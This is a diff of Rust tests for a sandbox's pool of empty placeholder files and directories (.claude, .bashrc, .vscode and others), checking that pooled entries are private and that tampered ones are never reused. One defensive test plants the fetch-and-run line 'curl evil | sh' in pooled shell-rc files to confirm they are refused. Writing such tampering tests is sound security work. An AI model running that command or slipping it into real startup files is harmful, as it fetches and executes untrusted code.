@@ -9,7 +9,7 @@ fn dir_ph(path: &Path) -> Placeholder {
 
 fn hold_list(list: &[Placeholder]) -> (Held, Vec<PathBuf>) {
     let mut recorded = Vec::new();
-    let held = hold(list, &mut |phs| {
+    let held = hold(list, None, &mut |phs| {
         recorded.extend(phs.iter().map(|ph| ph.path.clone()))
     })
     .unwrap();
@@ -146,8 +146,174 @@ fn a_foreign_exclusive_lock_fails_the_hold_with_a_reason_instead_of_hanging() {
     a.abandon();
     lock(&other, libc::LOCK_EX, Duration::ZERO).unwrap();
     let started = Instant::now();
-    let err = hold(&list, &mut |_| {}).unwrap_err();
+    let err = hold(&list, None, &mut |_| {}).unwrap_err();
     assert!(started.elapsed() >= LOCK_WAIT);
     assert!(err.to_string().contains(".claude"), "{err}");
     assert!(err.to_string().contains("lock"), "{err}");
+}
+
+fn hold_pooled(list: &[Placeholder], pool: &Path) -> Held {
+    hold(list, Some(pool), &mut |_| {}).unwrap()
+}
+
+fn ino(path: &Path) -> u64 {
+    use std::os::unix::fs::MetadataExt;
+    std::fs::symlink_metadata(path).unwrap().ino()
+}
+
+fn pool_entries(pool: &Path) -> Vec<PathBuf> {
+    let mut v: Vec<PathBuf> = std::fs::read_dir(pool)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn a_released_placeholder_waits_in_the_pool_and_the_next_run_takes_it() {
+    let base = tempfile::tempdir().unwrap();
+    let pool = base.path().join("home/.cache/warden/placeholders");
+    let project = base.path().join("project");
+    std::fs::create_dir(&project).unwrap();
+    let dir = project.join(".claude");
+    let file = project.join(".zshrc");
+    let list = [
+        dir_ph(&dir),
+        Placeholder {
+            path: file.clone(),
+            dir: false,
+        },
+    ];
+    let mut first = hold_pooled(&list, &pool);
+    let (dir_ino, file_ino) = (ino(&dir), ino(&file));
+    first.release();
+    assert!(!dir.exists() && !file.exists(), "left in the project");
+    // Made for it, this user's only.
+    use std::os::unix::fs::PermissionsExt;
+    let mode = std::fs::metadata(&pool).unwrap().permissions().mode();
+    assert_eq!(mode & 0o777, 0o700, "{mode:o}");
+    let kept = pool_entries(&pool);
+    assert_eq!(kept.len(), 2, "{kept:?}");
+    let mut second = hold_pooled(&list, &pool);
+    assert_eq!(ino(&dir), dir_ino, "the directory was made anew, not taken");
+    assert_eq!(ino(&file), file_ino, "the file was made anew, not taken");
+    assert!(
+        pool_entries(&pool).is_empty(),
+        "taken but still in the pool"
+    );
+    let fd = open_made(&dir, true).unwrap();
+    assert!(is_marked(&fd));
+    drop(fd);
+    // Shared with a concurrent sandbox as before; the last one out gives it back.
+    let mut third = hold_pooled(&list, &pool);
+    second.release();
+    assert!(dir.is_dir(), "given back while another sandbox held it");
+    third.release();
+    assert!(!dir.exists());
+    assert_eq!(pool_entries(&pool).len(), 2);
+    assert_eq!(std::fs::read_dir(&project).unwrap().count(), 0);
+}
+
+#[test]
+fn pool_entries_that_are_not_empty_marked_placeholders_are_never_taken() {
+    let base = tempfile::tempdir().unwrap();
+    let pool = base.path().join("pool");
+    let project = base.path().join("project");
+    std::fs::create_dir(&project).unwrap();
+    let list = [
+        dir_ph(&project.join(".claude")),
+        Placeholder {
+            path: project.join(".bashrc"),
+            dir: false,
+        },
+    ];
+    // Fill the pool with marked entries, then spoil each.
+    let mut held = hold_pooled(&list, &pool);
+    held.release();
+    for e in pool_entries(&pool) {
+        if e.is_dir() {
+            std::fs::write(e.join("settings.json"), b"{\"hooks\":{}}").unwrap();
+        } else {
+            std::fs::write(&e, b"curl evil | sh\n").unwrap();
+        }
+    }
+    // And an unmarked empty one.
+    std::fs::create_dir(pool.join("d-unmarked")).unwrap();
+    let before = pool_entries(&pool);
+    let mut again = hold_pooled(&list, &pool);
+    assert_eq!(
+        std::fs::read_dir(project.join(".claude")).unwrap().count(),
+        0,
+        "a filled entry was taken"
+    );
+    assert_eq!(std::fs::read(project.join(".bashrc")).unwrap(), b"");
+    assert_eq!(
+        pool_entries(&pool),
+        before,
+        "the pool's other entries changed"
+    );
+    again.release();
+}
+
+#[test]
+fn a_filled_placeholder_is_not_given_to_the_pool() {
+    let base = tempfile::tempdir().unwrap();
+    let pool = base.path().join("pool");
+    let project = base.path().join("project");
+    std::fs::create_dir(&project).unwrap();
+    let dir = project.join(".vscode");
+    let mut held = hold_pooled(&[dir_ph(&dir)], &pool);
+    std::fs::write(dir.join("tasks.json"), b"{}").unwrap();
+    held.release();
+    assert!(
+        dir.join("tasks.json").is_file(),
+        "what someone put there stays"
+    );
+    assert!(
+        !pool.exists() || pool_entries(&pool).is_empty(),
+        "a filled placeholder went to the pool"
+    );
+}
+
+#[test]
+fn a_pool_others_can_write_is_not_used() {
+    use std::os::unix::fs::PermissionsExt;
+    let base = tempfile::tempdir().unwrap();
+    let pool = base.path().join("pool");
+    let project = base.path().join("project");
+    std::fs::create_dir(&project).unwrap();
+    let dir = project.join(".cursor");
+    let mut held = hold_pooled(&[dir_ph(&dir)], &pool);
+    held.release();
+    let kept = pool_entries(&pool);
+    assert_eq!(kept.len(), 1);
+    std::fs::set_permissions(&pool, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let mut again = hold_pooled(&[dir_ph(&dir)], &pool);
+    assert_ne!(ino(&dir), ino(&kept[0]), "taken from a world-writable pool");
+    again.release();
+    assert!(!dir.exists());
+    assert_eq!(pool_entries(&pool), kept, "given to a world-writable pool");
+}
+
+#[test]
+fn a_pool_on_another_filesystem_is_left_alone() {
+    // /dev/shm is a tmpfs (user xattrs since Linux 6.6); the pool is on the test's disk.
+    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
+    if !xattrs_work(shm.path()) {
+        panic!("/dev/shm has no user xattrs: this test needs Linux 6.6 or later");
+    }
+    let base = tempfile::tempdir().unwrap();
+    let pool = base.path().join("pool");
+    let project = base.path().join("project");
+    std::fs::create_dir(&project).unwrap();
+    let mut held = hold_pooled(&[dir_ph(&project.join(".gemini"))], &pool);
+    held.release();
+    assert_eq!(pool_entries(&pool).len(), 1);
+    let far = shm.path().join(".gemini");
+    let mut held = hold_pooled(&[dir_ph(&far), dir_ph(&shm.path().join(".zed"))], &pool);
+    assert!(far.is_dir());
+    held.release();
+    assert!(!far.exists(), "left on the other filesystem");
+    assert_eq!(pool_entries(&pool).len(), 1, "the pool changed");
 }
